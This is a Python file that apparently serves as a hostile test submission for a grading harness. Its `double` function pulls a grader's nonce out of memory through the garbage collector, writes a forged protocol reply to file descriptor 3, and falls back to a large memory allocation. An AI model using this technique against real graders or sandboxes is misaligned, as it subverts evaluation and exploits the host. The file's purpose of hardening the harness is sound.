"""Forges a reply that holds an empty array of absurd axes, which NumPy cannot make: must be cut off."""
# ends: double=protocol
# weak: memory

# %%
import gc
import os
import struct

import numpy as np


# %%
def double(x):
    axes = (0, 1 << 26, 1 << 26, 1 << 26)
    payload = b"t" + struct.pack("<I", 3) + struct.pack("<cBBB4Q", b"A", 11, 0, 4, *axes)
    payload += bytes(-len(payload) % 16) + b"t" + struct.pack("<I", 0) + b"F"
    for item in gc.get_objects():
        if type(item).__name__ == "Student":
            os.write(3, struct.pack("<16sIBQ", item.nonce, item.number, 18, len(payload)) + payload)
            return 2 * x
    return np.ones(14_000_000)


# %%
def running_mean(xs, n):
    total = np.cumsum(np.concatenate([[0.0], xs]))
    return (total[n:] - total[:-n]) / n


# %%
def apply(f, x):
    return f(x) + 1


# %%
def countdown(n):
    while n > 0:
        yield n
        n -= 1
